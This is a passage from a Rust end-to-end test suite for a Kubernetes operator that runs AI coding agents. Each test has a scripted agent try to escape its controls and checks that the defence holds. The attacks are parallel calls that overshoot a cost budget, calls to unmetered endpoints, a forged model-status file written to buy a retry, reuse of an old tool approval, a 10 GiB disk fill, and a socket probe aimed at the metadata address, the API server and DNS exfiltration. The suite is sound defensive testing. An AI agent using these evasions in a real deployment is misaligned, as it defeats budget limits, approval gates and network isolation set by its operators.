  body: JSON.stringify({model, max_tokens: 100, messages: [{role: "user", content: "go"}]})})
  .then(async r => { await r.text(); return r.status; }, e => "error " + e.message);
Promise.all(Array.from({length: n}, call)).then(s => console.log(path + " " + model + ": " + s.join(" ")));
JS
"#;

/// Attack: 12 model calls at once against `maxCostUSD: 0.0002`; each costs 0.00006 USD at the
/// scripted endpoint's test price (10 input and 5 output tokens), so checking "limit not yet
/// reached" per call lets all 12 through (0.00072 USD). Defence: each call reserves its worst case
/// before it is forwarded and is admitted only while spent + reserved < the limit; the overshoot
/// is at most the one call that crosses it. Checked on the gateway-metered usage in the run's
/// status.
#[tokio::test]
async fn parallel_model_calls_cannot_overshoot_the_budget() -> Result<()> {
    let (ns, repo) = setup("hostile-budget").await?;
    let name = "spender";
    let prompt = format!(
        "{MODEL_CALLS_JS}node /tmp/m.js /v1/messages scripted-metered 12 > calls.txt; cat calls.txt; {AGENT_COMMIT}; sleep 5"
    );
    shell_run(&ns, &repo, name, &prompt, json!({"budget": {"maxCostUSD": 0.0002}})).await?;
    let run = ns.wait_finished(name, RUN_TIMEOUT).await?;
    let status = run.status.clone().unwrap_or_default();
    let (_, reason, message) = condition(&run, "Succeeded").unwrap_or_default();
    let patch = match status.result.as_ref().and_then(|r| r.patch_ref.clone()) {
        Some(p) => patch_text(&ns, &p).await.unwrap_or_default(),
        None => String::new(),
    };
    assert_eq!(
        reason,
        Reason::BudgetExceeded,
        "{message}; usage {:?}; the calls:\n{patch}",
        status.usage
    );
    let usage = status.usage.clone().unwrap_or_default();
    let cost = usage.cost_usd.unwrap_or_default();
    eprintln!(
        "12 parallel calls: {} metered, {cost:.6} USD against 0.0002",
        usage.turns
    );
    assert!(
        usage.turns >= 1 && usage.turns < 12,
        "some calls, not all: {usage:?}\n{patch}"
    );
    let per_call = cost / f64::from(usage.turns);
    assert!(
        cost <= 0.0002 + per_call + 1e-12,
        "overshoot beyond one call: {usage:?}\n{patch}"
    );
    ns.cleanup().await;
    Ok(())
}

/// Attack: with the pool's key behind the gateway, the agent calls the Message Batches API (which
/// the meter does not read) and a model that has no price, under a `maxCostUSD`. Defence: the
/// gateway forwards only metered endpoints and refuses an unpriced model under a cost budget
/// (403 in Anthropic's error shape); nothing reaches the endpoint and nothing is metered.
#[tokio::test]
async fn unmetered_endpoints_and_unpriced_models_are_refused() -> Result<()> {
    let (ns, repo) = setup("hostile-endpoints").await?;
    let name = "sidestep";
    let prompt = format!(
        "{MODEL_CALLS_JS}node /tmp/m.js /v1/messages/batches scripted-metered > calls.txt; \
         node /tmp/m.js /v1/files scripted-metered >> calls.txt; \
         node /tmp/m.js /v1/messages mystery-model-7 >> calls.txt; cat calls.txt; {AGENT_COMMIT}"
    );
    shell_run(&ns, &repo, name, &prompt, json!({"budget": {"maxCostUSD": 1.0}})).await?;
    let run = ns.wait_finished(name, RUN_TIMEOUT).await?;
    expect_phase(&ns, &run, Phase::Succeeded).await?;
    let result = run.status.clone().unwrap_or_default().result.expect("result");
    let patch_ref = result.patch_ref.clone().unwrap_or_else(|| format!("{name}-patch"));
    let patch = patch_text(&ns, &patch_ref).await?;
    for line in [
        "+/v1/messages/batches scripted-metered: 403",
        "+/v1/files scripted-metered: 403",
        "+/v1/messages mystery-model-7: 403",
    ] {
        assert!(patch.contains(line), "{line} not in\n{patch}");
    }
    let usage = run.status.and_then(|s| s.usage).unwrap_or_default();
    assert_eq!(
        (usage.turns, usage.input_tokens),
        (0, 0),
        "nothing was forwarded: {usage:?}"
    );
    ns.cleanup().await;
    Ok(())
}

/// Attack: the agent writes `.paddock/model-status` as if the model endpoint had answered 503,
/// and fails, so that `spec.retry` gives it another attempt. Defence: the operator keeps the
/// runner's `ModelUnavailable` only when the gateway's own last `gateway_model_status` line says
/// 429/5xx; here the gateway saw no model call, so the run fails `AgentFailed`, not retried.
#[tokio::test]
async fn a_forged_model_status_buys_no_retry() -> Result<()> {
    let (ns, repo) = setup("hostile-retry").await?;
    let name = "retry-me";
    let prompt =
        "mkdir -p /workspace/.paddock && printf '{\"status\":503}' > /workspace/.paddock/model-status && exit 1";
    shell_run(
        &ns,
        &repo,
        name,
        prompt,
        json!({"retry": {"limit": 2, "backoff": "1s"}}),
    )
    .await?;
    let run = ns.wait_finished(name, RUN_TIMEOUT).await?;
    expect_phase(&ns, &run, Phase::Failed).await?;
    let (_, reason, message) = condition(&run, "Succeeded").unwrap_or_default();
    assert_eq!(reason, Reason::AgentFailed, "{message}");
    assert!(message.contains("gateway saw no 429/5xx"), "{message}");
    let status = run.status.unwrap_or_default();
    assert!(status.attempts.is_empty(), "no retry: {:?}", status.attempts);
    assert_eq!(status.attempt, Some(1));
    ns.cleanup().await;
    Ok(())
}

/// Attack: attempt 1 of a Claude Code run asks to run `git rm -r -q doomed` (the run's toolUse
/// rule), an approver approves, and the attempt's pod is then deleted (a retryable failure).
/// Attempt 2 asks for the same call: the old approval must not answer it. Defence: in-run gates
/// are per attempt (`<run>-a2-tool-1`) and the operator signs a verdict for one attempt only.
#[tokio::test]
async fn a_retried_attempt_asks_again_for_an_approved_tool_call() -> Result<()> {
    let (ns, repo) = setup("hostile-tool-retry").await?;
    // The script's repository needs the directory the tool call removes.
    let repo = {
        drop(repo);
        GitRepo::create(
            &format!("{}-t", ns.name),
            &[("README.md", "# gated\n"), ("doomed/keep.txt", "keep\n")],
        )?
    };
    ns.secret("model-key", "key", "sk-e2e-planted-model-key-0123456789")
        .await?;
    let name = "tooly";
    ns.apply::<AgentRun>(run_manifest(
        name,
        json!({
            "repo": {"url": repo.url},
            "agent": {"name": "claude-code", "model": "scripted-tool-gate",
                      "env": [{"name": "ANTHROPIC_API_KEY", "valueFrom": {"secretKeyRef": {"name": "model-key", "key": "key"}}}]},
            "prompt": "Remove the doomed directory, then write notes.txt.",
            "retry": {"limit": 1, "backoff": "1s"},
            "approvals": {"toolUse": {"approvers": {"users": [ALICE]}, "rules": [{"tool": "Bash", "pattern": "git rm *"}]}},
        }),
    ))
    .await?;
    let first = format!("{name}-tool-1");
    ns.wait_run(name, RUN_TIMEOUT, "attempt 1 awaiting the tool approval", |r| {
        r.status.as_ref().and_then(|s| s.gate_name.as_deref()) == Some(first.as_str())
    })
    .await?;
    decide_as(&ns, ALICE, &first, "Approve").await?;
    // Attempt 1's pod goes away (a retryable failure) once the approval is out.
    let pods = ns.api::<Pod>();
    let _ = pods
        .delete(&format!("{name}-1"), &DeleteParams::default().grace_period(0))
        .await;
    let second = format!("{name}-a2-tool-1");
    let run = ns
        .wait_run(name, RUN_TIMEOUT, "attempt 2 awaiting its own tool approval", |r| {
            r.status.as_ref().and_then(|s| s.gate_name.as_deref()) == Some(second.as_str())
                && phase(r) == Some(Phase::AwaitingApproval)
        })
        .await?;
    assert_eq!(run.status.as_ref().and_then(|s| s.attempt), Some(2));
    // The approval of attempt 1 does not answer attempt 2: it stays waiting.
    tokio::time::sleep(Duration::from_secs(5)).await;
    let gate = ns.api::<ApprovalGate>().get(&second).await?;
    assert_eq!(gate_state(&gate), Some(GateState::Pending), "{:?}", gate.status);
    let run = ns.api::<AgentRun>().get(name).await?;
    assert_eq!(phase(&run), Some(Phase::AwaitingApproval), "{:?}", run.status);
    decide_as(&ns, ALICE, &second, "Reject").await?;
    ns.wait_finished(name, RUN_TIMEOUT).await?;
    ns.cleanup().await;
    Ok(())
}

/// Attack: the agent writes 10 GiB into the workspace (the node's disk). Defence: every emptyDir
/// of a runner pod has a `sizeLimit` — the workspace's is the agent container's
/// `ephemeral-storage` limit (here 256Mi) — so the kubelet evicts the pod; the run fails
/// `StorageLimitExceeded` and is not retried (the run's own doing).
#[tokio::test]
async fn a_10_gib_write_to_the_workspace_is_stopped() -> Result<()> {
    let (ns, repo) = setup("hostile-disk").await?;
    ns.pool_with(
        "small-disk",
        json!({"template": {
            "image": env("PADDOCK_E2E_RUNNER_IMAGE")?,
            "imagePullPolicy": "IfNotPresent",
            "resources": {
                "requests": {"cpu": "50m", "memory": "128Mi", "ephemeral-storage": "64Mi"},
                "limits": {"cpu": "1", "memory": "1Gi", "ephemeral-storage": "256Mi"},
            },
        }}),
    )
    .await?;
    let name = "filler";
    let started = Instant::now();
    shell_run(
        &ns,
        &repo,
        name,
        "dd if=/dev/zero of=big bs=1M count=10240 conv=fsync 2>&1 | tail -1; sleep 300",
        json!({"runnerPoolRef": {"name": "small-disk"}}),
    )
    .await?;
    let run = ns.wait_finished(name, RUN_TIMEOUT).await?;
    let status = run.status.clone().unwrap_or_default();
    assert_eq!(phase(&run), Some(Phase::Failed), "{status:?}");
    let (_, reason, message) = condition(&run, "Succeeded").context("Succeeded condition")?;
    assert_eq!(reason, Reason::StorageLimitExceeded, "{message}");
    assert!(message.contains("workspace"), "{message}");
    assert!(status.attempts.is_empty(), "not retried: {:?}", status.attempts);
    eprintln!(
        "evicted {:.0} s after the run was created",
        started.elapsed().as_secs_f64()
    );
    ns.cleanup().await;
    Ok(())
}

/// The probe the agent runs: each attack in turn, its outcome written to `probe.json`
/// (`open`/`answered`/a status line when it got through, `blocked: <error>` when not).
const EGRESS_PROBE: &str = r#"
import json, socket, sys, urllib.request
svc_ip, svc_port, egress_ip, resolver, model = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
res = {}
def tcp(name, host, port):
    try:
        socket.create_connection((host, port), timeout=4).close()
        res[name] = "open"
    except Exception as e:
        res[name] = "blocked: " + type(e).__name__
tcp("host-git-daemon", "10.244.0.1", 9418)
tcp("node-apiserver", "10.244.0.1", 6443)
tcp("apiserver-service", "10.96.0.1", 443)
tcp("operator-service", svc_ip, svc_port)
tcp("metadata", "169.254.169.254", 80)
q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04pypi\x03org\x00\x00\x01\x00\x01"
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(4)
    u.sendto(q, (resolver, 53))
    u.recvfrom(512)
    res["dns-to-node-resolver"] = "answered"
except Exception as e:
    res["dns-to-node-resolver"] = "blocked: " + type(e).__name__
try:
    s = socket.create_connection((egress_ip, 3128), timeout=4)
    s.sendall(b"CONNECT 10.244.0.1:9418 HTTP/1.1\r\nHost: x\r\n\r\n")
    res["egress-gateway-without-token"] = s.recv(128).decode(errors="replace").split("\r\n")[0]
except Exception as e:
    res["egress-gateway-without-token"] = "blocked: " + type(e).__name__
try:
    r = urllib.request.urlopen(model + "/healthz", timeout=20)
    res["through-the-pod-gateway"] = "status %d" % r.status
except Exception as e:
    res["through-the-pod-gateway"] = "failed: %s" % e
open("probe.json", "w").write(json.dumps(res, sort_keys=True, indent=0) + "\n")
"#;

/// Attack: the agent ignores `HTTPS_PROXY` and opens its own sockets — TCP to a service on the
/// host (the git daemon), the node's API server port, the `kubernetes` Service and the operator's
/// metrics Service, the metadata address, a DNS query sent straight to the node's resolver (DNS
/// exfiltration), and the pool's egress gateway without its token. Defence: the pool's
/// NetworkPolicy `<pool>-runners` allows runner pods only the egress gateway, enforced below the
/// pod (kube-router in the local cluster), and the egress gateway serves only the trusted
/// containers' token (407). The way out that remains is the pod gateway: a request through
/// `HTTP_PROXY` reaches the host's model endpoint.
#[tokio::test]
async fn the_agent_reaches_nothing_but_its_gateway() -> Result<()> {
    let (ns, repo) = setup("hostile-egress").await?;
    let name = "prober";
    // The addresses an attacker would scan for, handed over to keep the test short.
    let services: Api<Service> = Api::namespaced(ns.client.clone(), "paddock-system");
    let op = services
        .list(&ListParams::default())
        .await?
        .items
        .into_iter()
        .find(|s| {
            s.metadata
                .name
                .as_deref()
                .is_some_and(|n| n.ends_with("-operator-metrics"))
        })
        .context("the operator's metrics Service")?;
    let op_spec = op.spec.unwrap_or_default();
    let op_ip = op_spec.cluster_ip.unwrap_or_default();
    let op_port = op_spec.ports.unwrap_or_default().first().map_or(8080, |p| p.port);
    let egress: Api<Service> = Api::namespaced(ns.client.clone(), &ns.name);
    let deadline = Instant::now() + Duration::from_secs(60);
    let egress_ip = loop {
        if let Some(ip) = egress
            .get_opt(&paddock_crds::egress::gateway_name("default"))
            .await?
            .and_then(|s| s.spec.and_then(|s| s.cluster_ip))
        {
            break ip;
        }
        if Instant::now() > deadline {
            bail!("the pool's egress gateway Service did not appear");
        }
        tokio::time::sleep(Duration::from_secs(1)).await;
    };
    let resolver = std::fs::read_to_string("/etc/resolv.conf")?
        .lines()
        .find_map(|l| l.strip_prefix("nameserver ").map(|s| s.trim().to_string()))
        .context("a nameserver in /etc/resolv.conf")?;
    // The control: the node's resolver answers the probe's query from the node itself, so a
    // blocked query below is the policy's doing.
    {
        let q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04pypi\x03org\x00\x00\x01\x00\x01";
        let u = std::net::UdpSocket::bind("0.0.0.0:0")?;
        u.set_read_timeout(Some(Duration::from_secs(4)))?;
        u.send_to(q, (resolver.as_str(), 53))?;
        let mut buf = [0u8; 512];
        u.recv_from(&mut buf)
            .context("the node's resolver does not answer the node")?;
    }
    let model = env("PADDOCK_E2E_MODEL_URL")?;
    let prompt = format!(
        "cat > /tmp/probe.py <<'PROBE'\n{EGRESS_PROBE}\nPROBE\n\
         python3 /tmp/probe.py {op_ip} {op_port} {egress_ip} {resolver} {model} && cat probe.json && {AGENT_COMMIT}"
    );
    shell_run(&ns, &repo, name, &prompt, json!({})).await?;
    let run = ns.wait_finished(name, RUN_TIMEOUT).await?;
    expect_phase(&ns, &run, Phase::Succeeded).await?;
    let result = run.status.clone().unwrap_or_default().result.expect("result");
    let patch_ref = result.patch_ref.clone().unwrap_or_else(|| format!("{name}-patch"));
    let patch = patch_text(&ns, &patch_ref).await?;
    let json_text: String = patch
        .lines()
        .skip_while(|l| !l.starts_with("+++ b/probe.json"))
        .skip(1)
        .filter_map(|l| l.strip_prefix('+'))
        .collect::<Vec<_>>()
        .join("\n");
    let probe: serde_json::Map<String, serde_json::Value> =
        serde_json::from_str(&json_text).with_context(|| format!("probe.json in the patch:\n{patch}"))?;
    let got = |k: &str| probe.get(k).and_then(|v| v.as_str()).unwrap_or("missing").to_string();
    for k in [
        "host-git-daemon",
        "node-apiserver",
        "apiserver-service",
        "operator-service",
        "metadata",
        "dns-to-node-resolver",
    ] {
        assert!(got(k).starts_with("blocked"), "{k}: {} (all: {probe:?})", got(k));
    }
    let no_token = got("egress-gateway-without-token");
    assert!(
        no_token.starts_with("HTTP/1.1 407") || no_token.starts_with("blocked"),
        "the egress gateway served a caller without the token: {no_token}"
    );
    assert_eq!(
        got("through-the-pod-gateway"),
        "status 200",
        "the pod gateway is the way out: {probe:?}"
    );
    ns.cleanup().await;
    Ok(())
}

#[test]
fn diffstats_parse() {
    assert_eq!(parse_diffstat("1 files, +1/-0"), Some((1, 1, 0)));
    assert_eq!(parse_diffstat("3 files, +10/-2"), Some((3, 10, 2)));
    assert_eq!(parse_diffstat("1 file, +4/-1"), Some((1, 4, 1)));
    assert_eq!(parse_diffstat("nothing"), None);
    assert!(is_sha(FORGED_SHA));
}

/// The forgery is a well-formed runner `result` line: what the runner itself would print.
#[test]
fn the_forged_line_parses_as_a_result() {
    use paddock_crds::events::{parse_line, RunnerEvent};
    let line = parse_line(FORGED_RESULT).expect("an event line");
    let RunnerEvent::Result(r) = line.event else {
        panic!("not a result: {:?}", line.event)
    };
    assert_eq!(r.commit.as_deref(), Some(FORGED_SHA));
    assert_eq!(
        (r.branch.as_str(), r.pushed, r.files_changed, r.insertions),
        ("main", true, 99, 999)
    );
}
